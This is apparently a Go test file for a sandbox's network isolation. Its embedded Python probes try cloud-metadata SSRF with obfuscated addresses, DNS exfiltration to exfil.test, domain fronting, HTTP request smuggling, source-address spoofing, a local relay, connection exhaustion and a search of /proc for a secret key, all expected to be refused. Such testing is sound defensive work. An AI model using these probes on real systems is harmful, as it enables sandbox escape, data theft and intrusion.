package selftest

import (
	"fmt"
	"time"

	"casemate.dev/internal/fakenet"
)

// networkPrelude gives Python probes a way to try things: each prints one line, "NAME through …" or "NAME refused …".
const networkPrelude = `
import os, socket, ssl, sys, time, threading, urllib.request
patience = float(os.environ.get("PATIENCE", "20"))
socket.setdefaulttimeout(patience)
def said(name, f):
    try: print(name, "through", f(), flush=True)
    except Exception as e: print(name, "refused", type(e).__name__, str(e)[:100], flush=True)
def speak(s, text=b"hello"):
    s.sendall(text); r = s.recv(200)
    if not r: raise OSError("closed")
    return r
def tcp(host, port, text=b"hello"): said("tcp %s %s" % (host, port), lambda: speak(socket.create_connection((host, port)), text))
def udp(host, port, text=b"hello", source=None):
    def f():
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
        if source:
            for way in (19, 15): # IP_TRANSPARENT, IP_FREEBIND (ip(7)): an address that is not one's own
                try: s.setsockopt(0, way, 1)
                except OSError: pass
            s.bind((source, 0))
            s.settimeout(1)
        s.connect((host, port)); return speak(s, text)
    said("udp %s %s" % (host, port), f)
def get(url, **headers):
    headers = {k.replace("_", "-"): v for k, v in headers.items()}
    said("get " + url, lambda: urllib.request.urlopen(urllib.request.Request(url, headers=headers)).read(4000))
def http(host, text, port=80):
    def f():
        s = socket.create_connection((host, port)); s.sendall(text.encode("latin-1")); got = b""
        while True:
            try: r = s.recv(65536)
            except OSError: break
            if not r: break
            got += r
        return got[:200]
    said("http " + host, f)
def tls(host, name, path="/", as_host=None):
    def f():
        c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
        s = c.wrap_socket(socket.create_connection((host, 443)), server_hostname=name)
        return speak(s, ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, as_host or name or host)).encode())
    said("tls %s as %s" % (host, name), f)
`

// Flow is what a case of section F is about beside its output.
type Flow struct {
	// Rules are those of the sandbox that the case gets of its own; nil are the usual ones, and an empty list allows
	// nothing.
	Rules []string
	// Arrives and Stays are regular expressions over what reached the servers of the Internet meanwhile, one thing a
	// line: the first, the control, must be found where it is not empty, and the second must not.
	Arrives, Stays string
}

func (f Flow) rules() []string {
	if f.Rules == nil {
		return usualRules()
	}
	return f.Rules
}

// judge compares what arrived with what may.
func (f Flow) judge(arrived string) error {
	if f.Stays != "" {
		if found := lines(f.Stays).FindString(arrived); found != "" {
			return fmt.Errorf("%s reached the internet", excerpt(found))
		}
	}
	if f.Arrives != "" && !lines(f.Arrives).MatchString(arrived) {
		return fmt.Errorf("what is allowed did not arrive: %s", excerpt(arrived))
	}
	return nil
}

// networkPatience is how long a case of section F may take.
const networkPatience = 90 * time.Second

// usualRules allow what the controls need, and names that lead to where they may not.
func usualRules() []string {
	return []string{
		"allow allowed.test", "allow *.allowed.test", "allow keyed.test", "allow echo.test:7000", "allow udp://" + fakenet.Web + ":5353",
		"allow meta.test:*", "allow intra.test:*", "allow loop.test:*", "allow host.test:*", "allow rebind.test:*", "allow both.test:*",
	}
}

// openRules allow every name and address but those that must be named.
func openRules() []string { return []string{"allow *:*", "allow 0.0.0.0/0:*", "allow [::/0]:*"} }

// networkCases are section F: what leaves, and what may be reached.
func networkCases() []Case {
	var all []Case
	for _, c := range [][]Case{wayOutCases(), nameCases(), requestCases(), keyCases()} {
		all = append(all, c...)
	}
	for i := range all {
		all[i].Twin = OpenNetwork
		if all[i].Python != "" {
			all[i].Python = networkPrelude + all[i].Python
		}
		if all[i].Timeout == 0 {
			all[i].Timeout = networkPatience
		}
	}
	return all
}

// wayOutCases are about addresses and ports.
func wayOutCases() []Case {
	refused := Want{Match: ` refused `, Reject: ` through `}
	return []Case{
		both(Case{
			ID: "F01", Class: Exfil, Title: "TCP to anywhere, where nothing is allowed",
			Python: `tcp("1.1.1.1", 443, b"GET / HTTP/1.0\r\n\r\n"); tcp("8.8.8.8", 53); tcp("2606:2800:21f:cb07:6820:80da:af6b:8b2c", 443)`,
			Flow:   &Flow{Rules: []string{}, Stays: `^(raw 1\.1\.1\.1|tcp 8\.8)`},
		}, refused),
		both(Case{
			ID: "F02", Class: Exfil, Title: "UDP to anywhere, where nothing is allowed",
			Python: `udp("8.8.8.8", 53)`, Flow: &Flow{Rules: []string{}, Stays: `^udp`},
		}, refused),
		both(Case{
			ID: "F03", Class: Exfil, Title: "a bare address, and what works without a proxy's variables",
			Python: `print("proxies", [k for k in os.environ if "proxy" in k.lower()]); get("https://allowed.test/f03"); tls("1.1.1.1", "allowed.test", "/bare"); tls("1.1.1.1", None, "/bare")`,
			Flow:   &Flow{Arrives: `^https GET allowed\.test/f03`, Stays: `/bare`},
		}, Want{Match: `^proxies \[\]\nget .* through `, Reject: `^tls .* through `}),
		both(Case{
			ID: "F04", Class: HostLeak, Title: "the metadata services of clouds, however written",
			Python: `for a in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "[64:ff9b::a9fe:a9fe]",
          "[2002:a9fe:a9fe::1]", "169.254.170.2", "100.100.100.200", "168.63.129.16", "metadata.google.internal", "meta.test"):
    get("http://" + a + "/latest/meta-data/")
get("http://allowed.test/f04")`,
			Flow: &Flow{Rules: openRules(), Arrives: `^http GET allowed\.test/f04`, Stays: `^metadata`},
		}, Want{Match: `^get http://169.254.169.254/\S* refused`, Reject: `meta-data/ through`}),
		both(Case{
			ID: "F05", Class: HostLeak, Title: "the host's own services, by every address that may mean it",
			Python: `for a in ("127.0.0.1", "127.1", "0.0.0.0", "::", "::1", "localhost", "` + fakenet.Host + `", "2a02:ff80::1", "198.18.0.1", "loop.test", "host.test"):
    tcp(a, ` + hostPort + `)
tcp("echo.test", 7000)`,
			Flow: &Flow{Rules: openRules(), Arrives: `^tcp .*:7000`, Stays: `^host`},
		}, Want{Match: `^tcp echo.test 7000 through`, Reject: hostPort + ` through`}),
		both(Case{
			ID: "F06", Class: Lateral, Title: "private networks, and other sandboxes' addresses",
			Python: `for a in ("` + fakenet.Private + `", "192.168.7.7", "172.16.0.1", "100.64.0.1", "fe80::1%eth0", "fc00::1", "198.18.0.3", "198.19.0.77", "fdca:5e00:5a9d::3", "intra.test"):
    tcp(a, 80, b"GET / HTTP/1.0\r\n\r\n")
def ping(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(1)
    s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (a, 0)); return s.recv(64)
for a in ("` + fakenet.Private + `", "192.168.7.7", "198.18.0.3"): said("ping " + a, lambda: ping(a))
get("http://allowed.test/f06")`,
			Flow: &Flow{Rules: openRules(), Arrives: `/f06`, Stays: `^private`},
		}, Want{Match: `^get \S* through`, Reject: `^(tcp|ping) .* through`}),
		both(Case{
			ID: "F15", Class: Exfil, Title: "other ports and protocols of a host whose web is allowed",
			Python: `for p in (22, 25, 6379): tcp("allowed.test", p)
tcp("allowed.test", 443, b"SSH-2.0-x\r\n"); udp("` + fakenet.Web + `", 443); udp("allowed.test", 443)
get("https://allowed.test/f15")`,
			Flow: &Flow{Arrives: `/f15`, Stays: `^(tcp .*:(22|25|6379)|udp .*:443|raw)`},
		}, Want{Match: `^get \S* through`, Reject: `^(tcp|udp) .* through`}),
		both(Case{
			ID: "F20", Class: Lateral, Title: "packets from an address that is another's",
			Python: `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("` + fakenet.Web + `", 5353)); own = s.getsockname()[0]
udp("` + fakenet.Web + `", 5353, b"forged", own.rsplit(".", 1)[0] + ".77"); udp("` + fakenet.Web + `", 5353, b"honest")`,
			Flow: &Flow{Arrives: `^udp .* "honest"`, Stays: `"forged"`},
		}, Want{Match: ` through b'honest'`}),
		both(Case{
			ID: "F21", Class: HostDoS, Title: "connections without end, and a head of megabytes", Limits: &Limits{MemoryBytes: 512 << 20, OpenFiles: 4096, Pids: 64, DiskBytes: 64 << 20},
			Python: `kept = []
try:
    while len(kept) < 1500:
        s = socket.create_connection(("echo.test", 7000)); speak(s); kept.append(s)
except OSError as e: print("stopped", e)
print("unbounded" if len(kept) == 1500 else "bounded"); [s.close() for s in kept]
http("allowed.test", "GET /f21 HTTP/1.1\r\nHost: allowed.test\r\nX: " + "x" * 4000000 + "\r\nConnection: close\r\n\r\n")`,
			Flow: &Flow{Arrives: `^tcp .*:7000`, Stays: `/f21`}, Timeout: 2 * networkPatience,
		}, Want{Match: `^bounded`}),
	}
}

// nameCases are about looking names up, and what they match.
func nameCases() []Case {
	return []Case{
		both(Case{
			ID: "F07", Class: Exfil, Title: "data in the names that are looked up",
			Python: `import binascii
name = binascii.hexlify(b"what nobody shall know").decode() + ".exfil.test"
said("lookup", lambda: socket.getaddrinfo(name, 80))
def ask(server):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00\x00\x10\x00\x01"
    udp(server, 53, q); tcp(server, 53, len(q).to_bytes(2, "big") + q)
for server in ("8.8.8.8", "` + fakenet.Resolver + `"): ask(server)
get("http://sub.allowed.test/f07")`,
			Flow: &Flow{Arrives: `^http GET sub.allowed\.test/f07`, Stays: `exfil`},
		}, Want{Match: `^get \S* through`, Reject: `^(lookup|udp|tcp) .*through`}),
		both(Case{
			ID: "F08", Class: Exfil, Title: "a name that is allowed and leads inwards the second time",
			Python: `for i in range(6): get("http://rebind.test/f08"); get("http://both.test/f08")
get("http://allowed.test/f08")`,
			Flow: &Flow{Arrives: `^http GET allowed.test/f08`, Stays: `^private`},
		}, Want{Match: `^get http://allowed.test/f08 through`}),
		both(Case{
			ID: "F12", Class: Exfil, Title: "names that look like an allowed one",
			Python: `for a in ("evilallowed.test", "allowed.test.evil.test", "allowed-test.evil.test", "allowed.test@evil.test", "evil.test#allowed.test", "evil.test%23.allowed.test", "evil.test/.allowed.test"):
    get("http://" + a + "/like")
for a in ("\u0430llowed.test", "xn--llowed-2nf.test"): tcp(a, 80, b"GET /like HTTP/1.0\r\nHost: evil.test\r\n\r\n")
for a in ("allowed.test\0.evil.test", "evil.test\0.allowed.test", "evil.test#.allowed.test", "evil.test@allowed.test"):
    tcp(a, 80, b"GET /like HTTP/1.0\r\n\r\n")
get("http://ALLOWED.test/f12"); get("http://allowed.test./f12")`,
			Flow: &Flow{Arrives: `^http GET ALLOWED\.test/f12`, Stays: `evil`},
		}, Want{Match: `^get http://ALLOWED.test/f12 through[^\n]*\nget http://allowed.test./f12 through`, Reject: `^(get http://[^A]\S*/like|tcp .*) through`}),
		both(Case{
			ID: "F22", Class: Exfil, Title: "names looked up over HTTPS",
			Python: `get("https://dns.google/dns-query?name=exfil.test"); tls("allowed.test", "dns.google", "/dns-query"); get("https://allowed.test/f22")`,
			Flow:   &Flow{Arrives: `/f22`, Stays: `dns\.google|dns-query`},
		}, Want{Match: `f22 through`}),
		both(Case{
			ID: "F23", Class: Integrity, Title: "a denied name fails at once, for glibc's and musl's ways of asking",
			Python: `began = time.time()
said("glibc", lambda: socket.getaddrinfo("denied.test", 443))
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.connect((server, 53))
for kind in (1, 28): s.send(bytes([0, kind]) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06denied\x04test\x00\x00" + bytes([kind]) + b"\x00\x01")
def both():
    codes = [s.recv(512)[3] & 15 for i in range(2)]
    if codes == [3, 3]: raise OSError("no such name, twice")
    return codes
said("musl", both)
print("slow" if time.time() - began > 10 else "soon"); get("http://allowed.test/f23")`,
			Flow: &Flow{Arrives: `/f23`, Stays: `denied`},
		}, Want{Match: `^glibc refused gaierror[^\n]*\nmusl refused \S* no such name, twice\nsoon`}),
	}
}

// requestCases are about what TLS and HTTP say of their host.
func requestCases() []Case {
	return []Case{
		both(Case{
			ID: "F10", Class: Exfil, Title: "TLS and requests that name another host than the one connected to",
			Python: `tls("allowed.test", "fronted.test", "/front"); tls("allowed.test", None, "/front"); tls("keyed.test", "keyed.test", "/front", as_host="fronted.test")
tls("allowed.test", "allowed.test", "/f10")`,
			Flow: &Flow{Arrives: `^https GET allowed\.test/f10`, Stays: `fronted|/front|^hello -`},
		}, Want{Match: `^tls allowed.test as allowed.test through`}),
		both(Case{
			ID: "F13", Class: Exfil, Title: "requests that two servers read differently",
			Python: `end = "Connection: close\r\n\r\n"
http("allowed.test", "GET /other HTTP/1.1\r\nHost: fronted.test\r\n" + end)
http("allowed.test", "GET /twice HTTP/1.1\r\nHost: allowed.test\r\nHost: fronted.test\r\n" + end)
http("allowed.test", "GET http://fronted.test/absolute HTTP/1.1\r\nHost: allowed.test\r\n" + end)
http("allowed.test", "GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /second HTTP/1.1\r\nHost: fronted.test\r\n" + end)
http("allowed.test", "POST /lengths HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: fronted.test\r\n" + end)
http("allowed.test", "GET /folded HTTP/1.1\r\nHost: allowed.test\r\nX: a\r\n Host: fronted.test\r\n" + end)
http("allowed.test", "GET /f13 HTTP/1.1\r\nHost: allowed.test\r\n" + end)`,
			Flow: &Flow{Arrives: `^http GET allowed\.test/f13`, Stays: `fronted|/(other|twice|absolute|second|lengths|smuggled)`},
		}, Want{Match: ` through `}),
		both(Case{
			ID: "F14", Class: Exfil, Title: "a relay inside, to what is not allowed",
			Python: `l = socket.create_server(("127.0.0.1", 0))
def relay():
    while True:
        c, _ = l.accept(); c.settimeout(patience)
        try:
            o = socket.create_connection(("denied.test", 80)); o.sendall(c.recv(4000)); c.sendall(o.recv(4000))
        except OSError: pass
        c.close()
threading.Thread(target=relay, daemon=True).start()
tcp("127.0.0.1", l.getsockname()[1], b"GET /relayed HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n"); get("http://allowed.test/f14")`,
			Flow: &Flow{Arrives: `/f14`, Stays: `relayed|denied`},
		}, Want{Match: `f14 through`, Reject: `^tcp .* through`}),
	}
}

// sentinel matches the key of the battery.
const sentinel = `sentinel-[0-9a-f]{8}`

// keyCases are about a key that must not be inside, and goes to one place only.
func keyCases() []Case {
	return []Case{
		both(Case{
			ID: "F17", Class: HostLeak, Title: "a placeholder where it belongs, and everywhere else",
			Python: `import base64
k = os.environ["KEY"]
get("https://keyed.test/f17", Authorization="Bearer " + k)
get("https://allowed.test/wrong-host", Authorization="Bearer " + k); get("http://keyed.test/wrong-plain", Authorization="Bearer " + k)
get("https://keyed.test/wrong-place?key=" + k, X_Key=k, Cookie="k=" + k); get("https://keyed.test/wrong-" + k)
get("https://keyed.test/wrong-basic", Authorization="Basic " + base64.b64encode(("x:" + k).encode()).decode())
said("body", lambda: urllib.request.urlopen("https://keyed.test/wrong-body", k.encode()).read())`,
			// The server notes the request whole, and its answer repeats it.
			Flow: &Flow{Arrives: `^https GET keyed\.test/f17 .*` + sentinel, Stays: `/wrong-.*` + sentinel},
		}, Want{Match: `^get https://keyed.test/f17 through`, Reject: sentinel}),
		both(Case{
			ID: "F18", Class: HostLeak, Title: "the key itself, in files, environments and command lines",
			Script: `word=sent; word=${word}inel-
cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | grep -a -c "$word[0-9a-f][0-9a-f][0-9a-f][0-9a-f]" | sed 's/^[1-9].*/FOUND in processes/'
env | grep -q "$word[0-9a-f][0-9a-f][0-9a-f][0-9a-f]" && echo FOUND in variables
grep -rIl "$word[0-9a-f][0-9a-f][0-9a-f][0-9a-f]" ${PLACES:-/etc /root /home /run /tmp /workspace /var} 2>/dev/null | sed 's/^/FOUND in /' | head; echo searched`,
			Flow: &Flow{}, TwinEnv: map[string]string{"PLACES": "/etc"}, // of a twin's, which are the host's, some are endless
		}, Want{Match: `^searched`, Reject: `^FOUND`}),
	}
}
